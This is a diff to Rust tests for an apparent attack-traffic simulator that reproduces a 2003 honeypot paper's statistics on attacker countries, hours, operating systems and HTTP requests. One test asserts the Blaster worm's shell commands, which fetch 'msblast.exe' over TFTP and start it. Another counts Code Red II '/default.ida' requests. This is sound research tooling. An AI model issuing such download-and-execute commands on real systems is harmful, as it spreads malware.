@@ -1,5 +1,7 @@
 //! The plan against the numbers that the paper prints, at scale 1, and its attackers' habits.
 
+use std::collections::BTreeMap;
+
 use serde_json::Value;
 
 use super::*;
@@ -121,7 +123,7 @@ fn steps_stand_in_order_within_their_day() {
 #[test]
 fn crossers_straddle_midnight() {
     let (_, plan) = paper(0.3);
-    let mut by_ip: std::collections::BTreeMap<Ipv4Addr, Vec<(i64, i64)>> = Default::default();
+    let mut by_ip: BTreeMap<Ipv4Addr, Vec<(i64, i64)>> = Default::default();
     for (slot, source) in plan.sources.iter().enumerate() {
         let time = |tick| plan.clock.time_us(slot as u32, tick);
         let last = source.steps.last().map(|s| s.tick(s.packets - 1)).unwrap_or_default();
@@ -140,4 +142,135 @@ fn a_plan_that_cannot_be_is_refused_with_the_reason() {
     assert!(message.starts_with("scenario paper2003:") && message.contains("fewer"), "{message}");
     let message = Plan::of(&scenario, -1.0, 1).unwrap_err().to_string();
     assert!(message.contains("scale"), "{message}");
+}
+
+/// How often each key comes.
+fn count<K: Ord>(keys: impl IntoIterator<Item = K>) -> BTreeMap<K, f64> {
+    let mut counts = BTreeMap::new();
+    keys.into_iter().for_each(|key| *counts.entry(key).or_default() += 1.0);
+    counts
+}
+
+#[test]
+fn every_month_has_its_places() {
+    let (scenario, plan) = paper(1.0);
+    let study = scenario.study.as_ref().unwrap();
+    let truth = answers(&scenario, &plan, Rule::Day);
+    for month in &study.month {
+        let name = month.month.first.month();
+        let mut planned: BTreeMap<&str, f64> = BTreeMap::new();
+        for place in &study.place {
+            *planned.entry(&place.country).or_default() += place.percent_in(&name);
+        }
+        let rows = truth["countries"].as_array().unwrap().iter().filter(|r| r["month"] == name.as_str());
+        let rows: Vec<&Value> = rows.collect();
+        assert_eq!(rows.len(), planned.len(), "{name}");
+        for row in rows {
+            // One source is a tenth of a percent of a small month.
+            check(row, "percent", planned[row["country"].as_str().unwrap()], 0.1);
+        }
+    }
+    // An address sits where it sits.
+    let mut places = BTreeMap::new();
+    assert!(plan.sources.iter().all(|s| *places.entry(s.ip).or_insert(s.place) == s.place));
+}
+
+#[test]
+fn every_place_follows_its_curve() {
+    let (scenario, plan) = paper(1.0);
+    let study = scenario.study.as_ref().unwrap();
+    let truth = answers(&scenario, &plan, Rule::Day);
+    let rows = truth["local-hours"].as_array().unwrap();
+    let mut places = 0;
+    for place in study.place.iter().filter(|p| p.time_zone.is_some() && p.percent >= 2.0) {
+        places += 1;
+        let curve = study.curve(place).unwrap();
+        let rows: Vec<&Value> = rows.iter().filter(|r| r["place"] == place.name().as_str()).collect();
+        assert_eq!(rows.len(), 24, "{}", place.name());
+        for (hour, row) in rows.into_iter().enumerate() {
+            check(row, "hour", hour as f64, 0.0);
+            check(row, "percent", curve[hour] * 100.0 / curve.iter().sum::<f64>(), 0.5);
+        }
+    }
+    assert_eq!(places, 16);
+    let mut sources =
+        plan.sources.iter().filter(|s| s.place.is_none_or(|p| !study.place[usize::from(p)].is_known()));
+    assert!(sources.next().is_some(), "some are in no database");
+}
+
+#[test]
+fn addresses_run_what_was_planned() {
+    let (scenario, plan) = paper(1.0);
+    let truth = answers(&scenario, &plan, Rule::Day);
+    let planned = count(scenario.systems().iter().map(|s| s.label.clone().unwrap_or("unknown".into())));
+    let rows = truth["os"].as_array().unwrap();
+    assert_eq!(rows.len(), planned.len());
+    for system in scenario.systems() {
+        let label = system.label.unwrap_or("unknown".into());
+        let row = rows.iter().find(|r| r["os"] == label.as_str()).unwrap();
+        check(row, "percent", system.percent, 0.02);
+    }
+    let mut systems = BTreeMap::new();
+    assert!(plan.sources.iter().all(|s| *systems.entry(s.ip).or_insert(s.system) == s.system));
+    // Blaster needs Windows 2000 or XP.
+    let names: Vec<String> = scenario.systems().into_iter().map(|s| s.name).collect();
+    let shells = plan.sources.iter().filter(|s| s.steps.iter().any(|t| t.target == Target::Tcp(4444)));
+    assert!(shells.clone().count() > 1_000);
+    let hosts = count(shells.map(|s| names[usize::from(s.system)].as_str()));
+    assert_eq!(hosts.keys().copied().collect::<Vec<_>>(), ["Windows 2000", "Windows XP"]);
+}
+
+#[test]
+fn worms_type_into_the_shell_that_they_opened() {
+    let (_, plan) = paper(0.3);
+    let mut seen = 0;
+    for source in &plan.sources {
+        for step in source.steps.iter().filter(|s| s.target == Target::Tcp(4444)) {
+            let Act::Talk(talk) = &step.act else { continue };
+            seen += 1;
+            let said = |n: usize| String::from_utf8_lossy(&talk.lines[n].0).into_owned();
+            assert_eq!(said(0), format!("tftp -i {} GET msblast.exe\n", source.ip));
+            assert_eq!(said(1), "start msblast.exe\n");
+            assert!(talk.lines.iter().all(|(_, reply)| reply.ends_with(b"C:\\WINNT\\system32>")));
+        }
+    }
+    assert!(seen > 100, "{seen}");
+}
+
+/// What is typed, where sources sit and when they strike changes no count: the words' own rows apart, the answers of a
+/// study without all that are the same.
+#[test]
+fn attackers_ways_change_no_other_answer() {
+    let (scenario, plan) = paper(0.1);
+    let mut plain = scenario.clone();
+    let study = plain.study.as_mut().unwrap();
+    (study.place, study.system, study.ftp) = (Vec::new(), Vec::new(), Vec::new());
+    study.worm.iter_mut().for_each(|w| w.shell.clear());
+    let old = Plan::of(&plain, 0.1, scenario.seed).unwrap();
+    for rule in [Rule::Day, Rule::Gap] {
+        let (with, without) = (answers(&scenario, &plan, rule), answers(&plain, &old, rule));
+        let own = ["ftp-commands", "logins", "countries", "local-hours", "os", "processes"];
+        for (question, rows) in without.iter().filter(|(q, _)| !own.contains(&q.as_str())) {
+            assert_eq!(&with[question], rows, "{question} by {rule:?}");
+        }
+        assert_ne!(with["ftp-commands"], without["ftp-commands"]);
+    }
+}
+
+#[test]
+fn requests_have_their_shares() {
+    let (scenario, plan) = paper(1.0);
+    let truth = answers(&scenario, &plan, Rule::Day);
+    let rows = truth["http-requests"].as_array().unwrap();
+    let number = |row: &Value, key: &str| row[key].as_f64().unwrap();
+    let total: f64 = rows.iter().map(|r| number(r, "requests")).sum();
+    let of = |request: &str| {
+        let all = rows.iter().filter(|r| r["request"] == request).map(|r| number(r, "requests"));
+        all.sum::<f64>() * 100.0 / total
+    };
+    // Code Red II has a weight of 24 in 100; the target ends at its question mark.
+    assert!((of("GET /default.ida") - 24.0).abs() < 3.0 && total > 1_000.0, "{total}");
+    assert!(of("OPTIONS /") > 5.0 && of("GET http://www.example.com/") > 1.0);
+    let march = rows.iter().filter(|r| r["month"] == "2003-03").map(|r| number(r, "percent"));
+    assert!((march.sum::<f64>() - 100.0).abs() < 1e-9);
 }
